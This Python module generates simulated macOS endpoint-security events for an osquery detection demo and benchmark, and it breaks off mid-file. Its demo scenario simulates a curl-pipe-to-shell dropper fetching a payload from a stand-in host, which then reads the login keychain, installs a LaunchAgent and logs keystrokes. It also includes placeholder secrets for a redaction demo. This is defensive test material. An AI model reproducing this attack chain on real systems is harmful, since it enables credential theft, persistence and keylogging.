"""What happens on the simulated Mac: the ``demo`` story and the ``bench`` mix.

A scenario is a generator over a :class:`~osq_esf.corpus.world.Mac`; it yields now
and then so the driver can stream the messages out.  Names a demo query can rely on
are the module constants below (``DEMO_*``); osq_esf/data/README.md tells the story
with the pids it produces.
"""

from __future__ import annotations

import itertools
from typing import Iterator

from osq_esf.corpus.world import (
    FAPPEND, FREAD, FWRITE, GID_STAFF, GID_TTY, GID_WHEEL, O_CLOEXEC, O_CREAT, O_TRUNC,
    PROX_FDTYPE_PIPE, PROX_FDTYPE_VNODE, TMPDIR, Mac, Proc,
)

HOME = "/Users/alice"
ALICE, ALICE_ASID, TERMINAL_ASID = 501, 100008, 100011
GUI_ASID = ALICE_ASID
DYLD_CACHE = "/System/Volumes/Preboot/Cryptexes/OS/System/Library/dyld/dyld_shared_cache_arm64e"
METADATA = "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/"
SAFARI = "/System/Volumes/Preboot/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari"
WEBKIT_XPC = ("/System/Volumes/Preboot/Cryptexes/OS/System/Library/Frameworks/WebKit.framework/Versions/A/"
              "XPCServices/{0}.xpc/Contents/MacOS/{0}")
TERMINAL = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"

# What the demo's detection queries can rely on.
DEMO_PAYLOAD = "/private/tmp/.sysupdate"  # the unsigned binary curl drops and sh runs
DEMO_PAYLOAD_ARG = "/tmp/.sysupdate"  # how the script names it (the /tmp symlink)
DEMO_PAYLOAD_SIGNING_ID = "sysupdate"
DEMO_SCRIPT_URL = "https://example.invalid/x.sh"
DEMO_PAYLOAD_URL = "https://example.invalid/payload"
DEMO_KEYCHAIN = f"{HOME}/Library/Keychains/login.keychain-db"
DEMO_LAUNCH_AGENT = f"{HOME}/Library/LaunchAgents/com.apple.sysupdate.plist"
DEMO_KEYLOG = "/private/tmp/.sysupdate.log"
DEMO_TTY = "/dev/ttys000"
DEMO_SECRETS = ("--password=hunter2",
                "AWS_SECRET_ACCESS_KEY=EXAMPLEonlyNotARealSecret0000000000000000",
                "GITHUB_TOKEN=ghp_example_not_a_real_token_000000000000")
DEMO_NOISY = {  # process path -> what it churns
    METADATA + "mds_stores": "/private/var/db/Spotlight-V100/",
    METADATA + "mds": "/private/var/db/Spotlight-V100/",
    "/usr/sbin/cfprefsd": f"{HOME}/Library/Preferences/ and /Library/Preferences/",
    "/usr/libexec/logd": "/private/var/db/diagnostics/ and /private/var/db/uuidtext/",
    "/usr/libexec/runningboardd": "/private/var/db/RunningBoard/",
    "/System/Library/CoreServices/Spotlight.app/Contents/MacOS/Spotlight": f"{HOME}/Library/Caches/com.apple.Spotlight/",
}
# launchd job label -> executable: every one is started launchd -> xpcproxy -> job.
DEMO_DAEMONS = (
    ("com.apple.logd", "/usr/libexec/logd", "com.apple.logd", None),
    ("com.apple.cfprefsd.xpc.daemon", "/usr/sbin/cfprefsd", "com.apple.cfprefsd", ["/usr/sbin/cfprefsd", "daemon"]),
    ("com.apple.runningboardd", "/usr/libexec/runningboardd", "com.apple.runningboardd", None),
    ("com.apple.fseventsd", "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/"
     "FSEvents.framework/Versions/A/Support/fseventsd", "com.apple.fseventsd", None),
    ("com.apple.securityd", "/usr/sbin/securityd", "com.apple.securityd", ["/usr/sbin/securityd", "-i"]),
    ("com.apple.opendirectoryd", "/usr/libexec/opendirectoryd", "com.apple.opendirectoryd", None),
    ("com.apple.trustd", "/usr/libexec/trustd", "com.apple.trustd", None),
    ("com.apple.metadata.mds", METADATA + "mds", "com.apple.mds", None),
    ("com.apple.metadata.mds_stores", METADATA + "mds_stores", "com.apple.mds_stores", None),
    ("com.apple.WindowServer", "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
     "com.apple.WindowServer", ["/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer", "-daemon"]),
    ("com.apple.loginwindow", "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
     "com.apple.loginwindow", None),
)
DEMO_AGENTS = (
    ("com.apple.cfprefsd.xpc.agent", "/usr/sbin/cfprefsd", "com.apple.cfprefsd", ["/usr/sbin/cfprefsd", "agent"]),
    ("com.apple.Dock.agent", "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", "com.apple.dock", None),
    ("com.apple.Finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder", None),
    ("com.apple.Spotlight", "/System/Library/CoreServices/Spotlight.app/Contents/MacOS/Spotlight", "com.apple.Spotlight", None),
    ("com.apple.mdworker.shared.0A000000-0000-0000-0000-000000000000", METADATA + "mdworker_shared",
     "com.apple.mdworker_shared", [METADATA + "mdworker_shared", "-s", "mdworker", "-c", "MDSImporterWorker",
                                   "-m", "com.apple.mdworker.shared"]),
)
DEMO_SAFARI_LABEL = "application.com.apple.Safari.2741585.2741591"
DEMO_TERMINAL_LABEL = "application.com.apple.Terminal.2741601.2741608"
DEMO_NETWORKING_LABEL = "com.apple.WebKit.Networking"
DEMO_WEBCONTENT_LABEL = "com.apple.WebKit.WebContent"

SHELL_PATH = ("/opt/homebrew/bin:/opt/homebrew/sbin:/Users/alice/.pyenv/shims:/Users/alice/.cargo/bin:"
              "/Users/alice/go/bin:/Users/alice/.nvm/versions/node/v22.9.0/bin:/usr/local/bin:/System/Cryptexes/App/usr/bin:"
              "/usr/bin:/bin:/usr/sbin:/sbin:/var/run/com.apple.security.cryptexd/codex.system/bootstrap/usr/local/bin:"
              "/var/run/com.apple.security.cryptexd/codex.system/bootstrap/usr/bin:"
              "/var/run/com.apple.security.cryptexd/codex.system/bootstrap/usr/appleinternal/bin:"
              "/Library/Apple/usr/bin:/Applications/Wireshark.app/Contents/MacOS:/Users/alice/.local/bin")


def shell_env(tty: str = DEMO_TTY, pwd: str = HOME, extra: tuple = ()) -> tuple:
    """A login shell's environment in Terminal: ~45 variables, a long PATH."""
    return (
        "TERM_PROGRAM=Apple_Terminal", "SHELL=/bin/zsh", "TERM=xterm-256color", f"TMPDIR={TMPDIR}/",
        "TERM_PROGRAM_VERSION=455.1", "TERM_SESSION_ID=6F1C3E2A-8D4B-4F7A-9C21-0B5E7D3A9F11",
        "USER=alice", "SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.Yx3Ae7Rm2K/Listeners",
        f"PATH={SHELL_PATH}", "__CFBundleIdentifier=com.apple.Terminal", f"PWD={pwd}", "LANG=en_US.UTF-8",
        "XPC_FLAGS=0x0", "XPC_SERVICE_NAME=0", "SHLVL=1", f"HOME={HOME}", "LOGNAME=alice", f"OLDPWD={HOME}",
        "HOMEBREW_PREFIX=/opt/homebrew", "HOMEBREW_CELLAR=/opt/homebrew/Cellar", "HOMEBREW_REPOSITORY=/opt/homebrew",
        "HOMEBREW_NO_ANALYTICS=1", "INFOPATH=/opt/homebrew/share/info:", "MANPATH=/opt/homebrew/share/man::",
        "PYENV_ROOT=/Users/alice/.pyenv", "PYENV_SHELL=zsh", "NVM_DIR=/Users/alice/.nvm",
        "NVM_CD_FLAGS=-q", "NVM_BIN=/Users/alice/.nvm/versions/node/v22.9.0/bin",
        "NVM_INC=/Users/alice/.nvm/versions/node/v22.9.0/include/node", "GOPATH=/Users/alice/go",
        "CARGO_HOME=/Users/alice/.cargo", "RUSTUP_HOME=/Users/alice/.rustup", "EDITOR=vim", "VISUAL=vim",
        "PAGER=less", "LESS=-R", "LSCOLORS=Gxfxcxdxbxegedabagacad", "CLICOLOR=1", "COMMAND_MODE=unix2003",
        "LC_CTYPE=en_US.UTF-8", "GPG_TTY=" + tty, "JAVA_HOME=/Library/Java/JavaVirtualMachines/temurin-21.jdk/Contents/Home",
        "DOCKER_HOST=unix:///Users/alice/.colima/default/docker.sock", "_=/usr/bin/env",
    ) + tuple(extra)


class Noise:
    """Background churn of the noisy daemons (and any actor added later): open, write, close."""

    def __init__(self, mac: Mac):
        self.mac = mac
        self.actors: list[tuple[Proc, float, callable]] = []

    def add(self, proc: Proc, weight: float, pick_path) -> None:
        self.actors.append((proc, weight, pick_path))

    def run(self, n: int) -> None:
        """About ``n`` events of churn."""
        mac, rng = self.mac, self.mac.rng
        live = [a for a in self.actors if a[0].alive]
        if not live:
            return
        weights = [w for _, w, _ in live]
        target = mac.emitted + n
        while mac.emitted < target:
            proc, _, pick = rng.choices(live, weights)[0]
            path, writes = pick(rng)
            if writes:
                mac.open(proc, path, FWRITE | (O_CREAT if rng.random() < 0.3 else 0) | O_CLOEXEC)
                for _ in range(writes):
                    mac.write(proc, path, rng.choice((512, 4096, 16384, 65536)))
                mac.close(proc, path, modified=True)
            else:
                mac.open(proc, path, FREAD | O_CLOEXEC)
                mac.close(proc, path)


def _pool_picker(paths: list[str], write_share: float, max_writes: int = 3):
    def pick(rng):
        path = paths[min(int(rng.paretovariate(1.2)) - 1, len(paths) - 1)]  # a few hot files, a long tail
        return path, (rng.randint(1, max_writes) if rng.random() < write_share else 0)
    return pick


def _hex(rng, n: int) -> str:
    return "%0*X" % (n, rng.getrandbits(4 * n))


def _uuid(rng) -> str:
    h = _hex(rng, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _after_exec(mac: Mac, p: Proc) -> None:
    """dyld maps the shared cache into every new image (the dyld-cache mute's target)."""
    mac.mmap(p, DYLD_CACHE, protection=5, max_protection=5, flags=0x11)


# -- demo ----------------------------------------------------------------------------------


def demo(mac: Mac, events: int) -> Iterator[None]:
    """Boot, a desktop session, Safari, and a Terminal where a curl|sh dropper runs."""
    rng = mac.rng
    noise = Noise(mac)
    story_estimate = 330
    budget = max(0, events - story_estimate)
    share = iter((0.08, 0.10, 0.12, 0.10, 0.12, 0.10, 0.10))

    def churn() -> None:
        noise.run(int(budget * next(share, 0.0)))

    # Boot: launchd (pid 1) starts the daemons through xpcproxy.
    mac.next_pid, mac.next_pidversion = 78, 120  # the kernel and launchd's first moments took the rest
    procs: dict[str, Proc] = {}
    mac.sleep(2.5)
    for label, path, sid, args in DEMO_DAEMONS:
        uid = 88 if "WindowServer" in label else 0
        p = mac.launch_job(label, mac.image(path, sid), args, uid=uid, gid=88 if uid else GID_WHEEL)
        p.threads += [mac.tid() for _ in range(rng.randint(2, 6))]
        _after_exec(mac, p)
        procs[label] = p
        mac.sleep(rng.uniform(0.05, 0.6))
    yield
    spotlight_store = f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/{_uuid(rng)}/"
    mds_paths = [spotlight_store + n for n in (
        "0.indexHead", "0.indexIds", "0.indexBigDates", "0.indexGroups", "0.indexPositions", "0.indexPostings",
        "0.indexTermIds", "0.indexUpdates", "0.indexDirectory", "0.shadowIndexHead", "live.0.indexHead",
        "live.0.indexPostings", "live.0.indexIds", "store.db", ".store.db", "journalAttr.1", "journalAttr.2",
        "tmp.spotlight.state", "psid.db", "reverseDirectoryStore", "dbStr-1.map.data", "dbStr-2.map.data")]
    noise.add(procs["com.apple.metadata.mds_stores"], 30, _pool_picker(mds_paths, 0.6, 4))
    noise.add(procs["com.apple.metadata.mds"], 8, _pool_picker(mds_paths[:8], 0.3))
    tracev3 = [f"/private/var/db/diagnostics/Persist/{n:016X}.tracev3" for n in range(0x12A, 0x131)]
    uuidtext = [f"/private/var/db/uuidtext/{_hex(rng, 2)}/{_hex(rng, 30)}" for _ in range(40)]
    noise.add(procs["com.apple.logd"], 18, _pool_picker(
        tracev3 + ["/private/var/db/diagnostics/Special/0000000000000043.tracev3",
                   "/private/var/db/diagnostics/HighVolume/000000000000001e.tracev3"] + uuidtext, 0.7))
    prefs = ["/Library/Preferences/com.apple.loginwindow.plist", "/Library/Preferences/.GlobalPreferences.plist",
             "/Library/Preferences/SystemConfiguration/preferences.plist", "/Library/Preferences/com.apple.security.plist",
             "/private/var/root/Library/Preferences/.GlobalPreferences.plist"]
    noise.add(procs["com.apple.cfprefsd.xpc.daemon"], 8, _pool_picker(prefs, 0.15))
    noise.add(procs["com.apple.runningboardd"], 6, _pool_picker(
        ["/private/var/db/RunningBoard/assertions.plist", "/private/var/db/RunningBoard/processState.plist",
         "/private/var/db/RunningBoard/jetsam.plist"], 0.5))
    churn()
    yield

    # Login: alice's agents, in her audit session.
    mac.sleep(6)
    for label, path, sid, args in DEMO_AGENTS:
        p = mac.launch_job(label, mac.image(path, sid), args, uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID)
        _after_exec(mac, p)
        procs[label] = p
        mac.sleep(rng.uniform(0.1, 0.8))
    user_prefs = [f"{HOME}/Library/Preferences/{n}.plist" for n in (
        ".GlobalPreferences", "com.apple.dock", "com.apple.finder", "com.apple.Spotlight", "com.apple.Terminal",
        "com.apple.Safari", "com.apple.HIToolbox", "com.apple.LaunchServices/com.apple.launchservices.secure",
        "com.apple.symbolichotkeys", "com.apple.universalaccess", "com.apple.WindowManager", "pbs",
        "ContextStoreAgent", "com.apple.controlcenter", "com.apple.AppleMultitouchTrackpad")]
    noise.add(procs["com.apple.cfprefsd.xpc.agent"], 16, _pool_picker(user_prefs, 0.35))
    spot_cache = [f"{HOME}/Library/Caches/com.apple.Spotlight/{n}" for n in (
        "ModelCache.db", "ModelCache.db-wal", "ModelCache.db-shm", "SpotlightKnowledgeEvents/index.V2/journals/4/journal.5",
        "SpotlightKnowledgeEvents/index.V2/journals/4/journal.6", "com.apple.spotlight.app.plist",
        "fsCachedData/" + _uuid(rng), "fsCachedData/" + _uuid(rng))]
    noise.add(procs["com.apple.Spotlight"], 12, _pool_picker(spot_cache, 0.5))
    docs = [f"{HOME}/Documents/{n}" for n in ("Quarterly plan.key", "notes.txt", "Résumé 2026.pdf", "budget.numbers",
                                               "会議メモ.md", "taxes/2025/1099-INT.pdf", "ideas.rtf")]
    noise.add(procs["com.apple.mdworker.shared.0A000000-0000-0000-0000-000000000000"], 6, _pool_picker(docs, 0.0))
    churn()
    yield

    # Safari and its WebKit XPC services: the services' responsible process is Safari.
    mac.sleep(20)
    safari = mac.launch_job(DEMO_SAFARI_LABEL, mac.image(SAFARI, "com.apple.Safari"), [SAFARI], uid=ALICE,
                            gid=GID_STAFF, asid=ALICE_ASID, env=["__CFBundleIdentifier=com.apple.Safari"])
    safari.threads += [mac.tid() for _ in range(5)]
    _after_exec(mac, safari)
    networking = mac.launch_job(
        DEMO_NETWORKING_LABEL, mac.image(WEBKIT_XPC.format(DEMO_NETWORKING_LABEL), DEMO_NETWORKING_LABEL),
        uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, responsible=safari)
    _after_exec(mac, networking)
    contents = []
    for _ in range(2):
        wc = mac.launch_job(DEMO_WEBCONTENT_LABEL, mac.image(WEBKIT_XPC.format(DEMO_WEBCONTENT_LABEL),
                                                             DEMO_WEBCONTENT_LABEL),
                            uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, responsible=safari)
        _after_exec(mac, wc)
        contents.append(wc)
    for wc in contents:  # JIT: pages flip to executable
        for _ in range(3):
            mac.mprotect(wc, 0x3_0000_0000 + rng.getrandbits(28) * 0x4000, 0x4000 * rng.randint(1, 64), 5)
    web_cache = [f"{HOME}/Library/Caches/com.apple.Safari/{n}" for n in ("Cache.db", "Cache.db-wal", "Cache.db-shm")]
    web_cache += [f"{HOME}/Library/Caches/com.apple.WebKit.Networking/fsCachedData/{_uuid(rng)}" for _ in range(24)]
    noise.add(networking, 10, _pool_picker(web_cache, 0.5))
    noise.add(safari, 4, _pool_picker([f"{HOME}/Library/Safari/{n}" for n in (
        "History.db", "History.db-wal", "Bookmarks.plist", "LastSession.plist", "CloudTabs.db")], 0.4))
    procs[DEMO_SAFARI_LABEL] = safari
    churn()
    yield

    # Terminal -> login -> zsh, on /dev/ttys000 in a new audit session.
    mac.sleep(25)
    terminal = mac.launch_job(DEMO_TERMINAL_LABEL, mac.image(TERMINAL, "com.apple.Terminal"), [TERMINAL],
                              uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, env=["__CFBundleIdentifier=com.apple.Terminal"])
    _after_exec(mac, terminal)
    tty = mac.file(DEMO_TTY, mode=0o20620, uid=ALICE, gid=GID_TTY, size=0, age_ns=0)
    tty.rdev = 0x10000000
    mac.open(terminal, "/dev/ptmx", FREAD | FWRITE)
    env0 = shell_env()
    login = mac.fork(terminal, new_session=True)
    login.tty = tty
    mac.exec(login, mac.image("/usr/bin/login", "com.apple.login"), ["login", "-pf", "alice"], env0, setuid=0)
    login.asid, login.auid = TERMINAL_ASID, ALICE
    login.dirty()
    _after_exec(mac, login)
    mac.open(login, "/private/etc/pam.d/login", FREAD)
    mac.close(login, "/private/etc/pam.d/login")
    zsh = mac.fork(login, new_session=False)
    zsh.user(ALICE, GID_STAFF)
    zsh.pgid = zsh.pid
    mac.exec(zsh, mac.image("/bin/zsh", "com.apple.zsh"), ["-zsh"], env0, dyld_exec_path="/bin/zsh",
             cwd=mac.dir(HOME), fds=_tty_fds(10))
    _after_exec(mac, zsh)
    for rc in (f"{HOME}/.zshenv", "/private/etc/zshrc", "/private/etc/zshrc_Apple_Terminal", f"{HOME}/.zshrc",
               f"{HOME}/.zsh_history"):
        mac.open(zsh, rc, FREAD | O_CLOEXEC)
        mac.close(zsh, rc)
    zsh_tools(mac, zsh, env0)
    churn()
    yield

    # The dropper: curl -fsSL https://example.invalid/x.sh | sh
    mac.sleep(14)
    pipe_id = 0x4E7F_1A2B_9C3D_5E6F & rng.getrandbits(63)
    curl_img = mac.image("/usr/bin/curl", "com.apple.curl")
    curl = mac.fork(zsh, new_group=True)
    mac.exec(curl, curl_img, ["curl", "-fsSL", DEMO_SCRIPT_URL], _last_command(env0, "/usr/bin/curl"),
             fds=[(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_PIPE, pipe_id), (2, PROX_FDTYPE_VNODE, None)])
    _after_exec(mac, curl)
    sh = mac.fork(zsh, pgid=curl.pid)
    sh_img = mac.image("/bin/sh", "com.apple.sh")
    mac.exec(sh, sh_img, ["sh"], _last_command(env0, "/bin/sh"),
             fds=[(0, PROX_FDTYPE_PIPE, pipe_id), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)])
    _after_exec(mac, sh)
    for cert in ("/private/etc/ssl/cert.pem", "/private/etc/ssl/openssl.cnf"):
        mac.open(curl, cert, FREAD)
        mac.close(curl, cert)
    mac.exit(curl, 0)
    env_sh = _last_command(env0, "/bin/sh")
    # 1. download the payload
    dl = mac.spawn(sh, curl_img, ["curl", "-fsSL", "-o", DEMO_PAYLOAD_ARG, DEMO_PAYLOAD_URL], env_sh)
    _after_exec(mac, dl)
    mac.create(dl, DEMO_PAYLOAD, 0o644)
    mac.open(dl, DEMO_PAYLOAD, FWRITE | O_CREAT | O_TRUNC)
    for _ in range(6):
        mac.write(dl, DEMO_PAYLOAD, 16384)
    mac.close(dl, DEMO_PAYLOAD, modified=True)
    mac.exit(dl, 0)
    # 2. chmod +x
    chmod = mac.spawn(sh, mac.image("/bin/chmod", "com.apple.chmod"), ["chmod", "+x", DEMO_PAYLOAD_ARG], env_sh)
    mac.setmode(chmod, DEMO_PAYLOAD, 0o755)
    mac.exit(chmod, 0)
    # 3. run it: ad hoc signed, no team, not a platform binary
    payload_img = mac.image(DEMO_PAYLOAD, DEMO_PAYLOAD_SIGNING_ID, None, "adhoc")
    run = mac.spawn(sh, payload_img, [DEMO_PAYLOAD_ARG], env_sh, dyld_exec_path=DEMO_PAYLOAD_ARG)
    _after_exec(mac, run)
    mac.open(run, DEMO_KEYCHAIN, FREAD)
    mac.mmap(run, DEMO_KEYCHAIN, protection=1, max_protection=3, flags=0x1)
    mac.close(run, DEMO_KEYCHAIN)
    mac.dir(f"{HOME}/Library/LaunchAgents")
    mac.create(run, DEMO_LAUNCH_AGENT, 0o644)
    mac.open(run, DEMO_LAUNCH_AGENT, FWRITE | O_CREAT | O_TRUNC)
    mac.write(run, DEMO_LAUNCH_AGENT, 612)
    mac.close(run, DEMO_LAUNCH_AGENT, modified=True)
    mac.exit(run, 0)
    # 4. nohup it in the background; sh exits and launchd adopts the child
    bg = mac.spawn(sh, mac.image("/usr/bin/nohup", "com.apple.nohup"), ["nohup", DEMO_PAYLOAD_ARG, "--daemon"], env_sh)
    mac.exec(bg, payload_img, [DEMO_PAYLOAD_ARG, "--daemon"], env_sh, dyld_exec_path=DEMO_PAYLOAD_ARG)
    _after_exec(mac, bg)
    mac.exit(sh, 0)
    # The adopted child (ppid 1, original_ppid = sh) opens the keyboard and logs keys.
    mac.sleep(1.5)
    mac.iokit_open(bg, "IOHIDLibUserClient", 0, 0x1000_0a3b,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/mtp@D400000/AppleMTPHIDTransport/keyboard")
    mac.iokit_open(bg, "IOHIDLibUserClient", 0, 0x1000_0a41,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/mtp@D400000/AppleMTPHIDTransport/trackpad")
    mac.create(bg, DEMO_KEYLOG, 0o600)
    noise.add(bg, 2, lambda r: (DEMO_KEYLOG, 1))
    churn()
    yield

    # A developer pastes credentials on a command line (redaction demo).
    mac.sleep(30)
    py_env = _last_command(env0 + DEMO_SECRETS[1:], "/usr/bin/python3")
    py = mac.spawn(zsh, mac.image("/usr/bin/python3", "com.apple.python3"),
                   ["python3", "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env,
                   new_group=True)
    clt = ("/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/Resources/"
           "Python.app/Contents/MacOS/Python")
    mac.exec(py, mac.image(clt, "com.apple.python3"),
             [clt, "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env)
    _after_exec(mac, py)
    mac.exit(py, 0)
    churn()
    yield

    # runningboardd reclaims a background WebContent process.
    mac.sleep(12)
    victim = contents[-1]
    mac.signal(procs["com.apple.runningboardd"], victim, 9)
    mac.exit(victim, signal=9)
    # Safari's networking process talks to a device, as apps do.
    mac.iokit_open(networking, "AppleKeyStoreUserClient", 0, 0x1000_02c1, "IOService:/IOResources/AppleKeyStore")
    mac.iokit_open(procs["com.apple.WindowServer"], "IOSurfaceRootUserClient", 0, 0x1000_0311,
                   "IOService:/IOResources/IOSurfaceRoot")
    mac.iokit_open(procs["com.apple.WindowServer"], "AppleUpstreamUserClient", 0, 0x1000_0a12,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/dcp@A0000000/AppleDCP")
    churn()
    yield
    while mac.emitted < events:
        noise.run(min(200, events - mac.emitted))
        yield


def _last_command(env: tuple, path: str) -> tuple:
    """The environment a shell passes: ``_`` names the command being run."""
    return tuple(e for e in env if not e.startswith("_=")) + (f"_={path}",)


def _tty_fds(extra: int = 0) -> list[tuple]:
    fds = [(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)]
    if extra:
        fds.append((extra, PROX_FDTYPE_VNODE, None))
    return fds


def zsh_tools(mac: Mac, zsh: Proc, env: tuple) -> None:
    """Ordinary commands before the dropper: context for a timeline."""
    for args, path, sid in ((["ls", "-la"], "/bin/ls", "com.apple.ls"),
                            (["git", "status"], "/usr/bin/git", "com.apple.git"),
                            (["uname", "-a"], "/usr/bin/uname", "com.apple.uname")):
        p = mac.fork(zsh, new_group=True)
        mac.exec(p, mac.image(path, sid), args, _last_command(env, path))
        _after_exec(mac, p)
        if args[0] == "git":
            clt = "/Library/Developer/CommandLineTools/usr/bin/git"
            mac.exec(p, mac.image(clt, "com.apple.git"), [clt, "status"], _last_command(env, path))
            for f in (f"{HOME}/.gitconfig", f"{HOME}/src/osq-demo/.git/HEAD", f"{HOME}/src/osq-demo/.git/index"):
                mac.open(p, f, FREAD)
                mac.close(p, f)
        mac.exit(p, 0)
        mac.sleep(mac.rng.uniform(1, 4))


# -- bench -----------------------------------------------------------------------------------

# The mix from the brief: ~60% open, 25% write, 5% exec, 5% fork/exit, 1% iokit_open, rest others.
BENCH_MIX = (("open", 0.600), ("write", 0.250), ("exec", 0.050), ("fork", 0.025), ("exit", 0.025),
             ("iokit_open", 0.010), ("close", 0.018), ("create", 0.006), ("rename", 0.004), ("unlink", 0.004),
             ("mmap", 0.004), ("mprotect", 0.002), ("signal", 0.001), ("setmode", 0.001))
IOKIT_CLASSES = ("IOHIDLibUserClient", "AppleUpstreamUserClient", "IOSurfaceRootUserClient", "AGXDeviceUserClient",
                 "AppleKeyStoreUserClient", "RootDomainUserClient", "IOAudio2DeviceUserClient",
                 "AppleMultitouchDeviceUserClient", "AppleSEPUserClient", "IOPMPowerSourceClient")
# (what the shell runs, the binary it hands over to or None, signing id): Apple's tools.
BENCH_TOOLS = (
    ("/usr/bin/git", "/Library/Developer/CommandLineTools/usr/bin/git", "com.apple.git"),
    ("/usr/bin/clang", "/Library/Developer/CommandLineTools/usr/bin/clang", "com.apple.clang"),
    ("/usr/bin/python3", "/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/"
                         "Resources/Python.app/Contents/MacOS/Python", "com.apple.python3"),
    ("/usr/bin/xcrun", "/Library/Developer/CommandLineTools/usr/bin/swift-frontend", "com.apple.swift-frontend"),
    ("/usr/bin/make", "/Library/Developer/CommandLineTools/usr/bin/make", "com.apple.make"),
    ("/bin/ls", None, "com.apple.ls"), ("/usr/bin/grep", None, "com.apple.grep"), ("/bin/cat", None, "com.apple.cat"),
    ("/usr/bin/sed", None, "com.apple.sed"), ("/usr/bin/awk", None, "com.apple.awk"),
    ("/usr/sbin/sysctl", None, "com.apple.sysctl"), ("/usr/bin/defaults", None, "com.apple.defaults"),
    ("/usr/bin/plutil", None, "com.apple.plutil"), ("/usr/bin/osascript", None, "com.apple.osascript"),
    ("/bin/sh", None, "com.apple.sh"), ("/usr/bin/env", None, "com.apple.env"),
)
BENCH_THIRD_PARTY = (
    ("/opt/homebrew/Cellar/node/22.9.0/bin/node", "node", None, "adhoc"),
    ("/opt/homebrew/Cellar/ripgrep/14.1.1/bin/rg", "rg", None, "adhoc"),
    ("/opt/homebrew/Cellar/jq/1.7.1/bin/jq", "jq", None, "adhoc"),
    ("/Applications/Docker.app/Contents/Resources/bin/docker", "com.docker.docker", "9BNSXJN65R", "devid"),
    ("/usr/local/bin/terraform", "terraform", "EXAMPLE7QX", "devid"),
)


def _bench_paths(rng) -> dict[str, list[str]]:
    """Thousands of distinct paths, grouped by who touches them."""
    projects = ("osq-demo", "web-frontend", "payments-api", "infra", "ml-notebooks", "dotfiles")
    exts = ("ts", "tsx", "js", "json", "py", "go", "rs", "swift", "md", "yaml", "lock", "toml", "h", "c")
    dev = [f"{HOME}/src/{rng.choice(projects)}/{rng.choice(('src', 'lib', 'tests', 'cmd', 'internal', 'app'))}/"
           f"{rng.choice(('core', 'api', 'util', 'models', 'views', 'handlers', 'db'))}/"
           f"{_hex(rng, 6).lower()}_{rng.randint(0, 99)}.{rng.choice(exts)}" for _ in range(1800)]
    dev += [f"{HOME}/src/web-frontend/node_modules/{rng.choice(('react', 'lodash', '@babel/core', 'typescript', 'webpack', 'eslint', '@types/node', 'vite', 'zod', 'rxjs'))}/"
            f"{rng.choice(('dist', 'lib', 'cjs', 'esm', 'build'))}/{_hex(rng, 5).lower()}.js" for _ in range(1500)]
    spotlight = [f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/9D3B2C61-0F7E-4A8B-B3C2-71E5D0A4F9C8/{n}"
                 for n in ("0.indexHead", "0.indexIds", "0.indexPostings", "live.0.indexHead", "store.db", ".store.db",
                           "journalAttr.3", "0.indexPositions", "0.indexTermIds", "tmp.spotlight.state")]
    spotlight += [f"{HOME}/Library/Metadata/CoreSpotlight/index.spotlightV3/{_hex(rng, 8)}.{i}" for i in range(300)]
    logd = [f"/private/var/db/diagnostics/Persist/{0x12A + i:016X}.tracev3" for i in range(12)]
    logd += [f"/private/var/db/uuidtext/{_hex(rng, 2)}/{_hex(rng, 30)}" for _ in range(400)]
    prefs = [f"{HOME}/Library/Preferences/com.{rng.choice(('apple', 'google', 'microsoft', 'jetbrains', 'docker', 'tinyspeck'))}."
             f"{_hex(rng, 4).lower()}.plist" for _ in range(250)]
    prefs += [f"/Library/Preferences/com.apple.{n}.plist" for n in ("loginwindow", "security", "TimeMachine", "alf",
                                                                     "Bluetooth", "SoftwareUpdate", "apsd", "windowserver")]
    caches = [f"{HOME}/Library/Caches/{rng.choice(('com.apple.Safari', 'com.apple.WebKit.Networking', 'com.tinyspeck.slackmacgap', 'Google/Chrome/Default', 'com.microsoft.VSCode.ShipIt', 'pip', 'Homebrew/downloads'))}/"
              f"fsCachedData/{_uuid(rng)}" for _ in range(900)]
    system = [f"/System/Library/Frameworks/{rng.choice(('AppKit', 'Foundation', 'CoreData', 'Security', 'Metal', 'CoreML', 'WebKit', 'SwiftUI'))}"
              f".framework/Versions/{rng.choice(('A', 'C'))}/Resources/{_hex(rng, 6).lower()}.{rng.choice(('plist', 'strings', 'nib', 'car', 'metallib'))}" for _ in range(500)]
    system += [f"/usr/lib/lib{n}.dylib" for n in ("System.B", "c++.1", "objc.A", "sqlite3", "z.1", "xml2.2", "icucore.A")]
    tmp = [f"/private{TMPDIR}/{rng.choice(('TemporaryItems', 'com.apple.dt.Xcode', 'node-compile-cache', 'pip-build', 'go-build'))}/"
           f"{_hex(rng, 10).lower()}" for _ in range(500)]
    docs = [f"{HOME}/{rng.choice(('Documents', 'Downloads', 'Desktop'))}/{rng.choice(('report', 'invoice', 'photo', 'notes', 'Résumé', 'スクリーンショット', 'draft'))} "
